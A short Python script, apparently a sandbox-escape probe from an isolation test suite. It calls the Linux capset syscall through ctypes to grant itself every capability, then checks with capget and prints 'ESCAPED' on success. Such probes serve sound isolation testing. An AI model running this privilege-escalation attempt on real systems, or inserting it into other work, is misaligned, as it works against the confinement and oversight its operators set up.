# class: leak
# Gives itself every privilege.
import ctypes,platform,struct
l=ctypes.CDLL(None,use_errno=True); h=ctypes.create_string_buffer(struct.pack("=Ii",0x20080522,0),8)
d=ctypes.create_string_buffer(struct.pack("=6I",*[0xffffffff,0xffffffff,0]+[0x1ff,0x1ff,0]),24); g=ctypes.create_string_buffer(24)
x=platform.machine()=="x86_64"; l.syscall(126 if x else 91,h,d); l.syscall(125 if x else 90,h,g)
print("ESCAPED" if any(g.raw) else "no errno %d"%ctypes.get_errno())
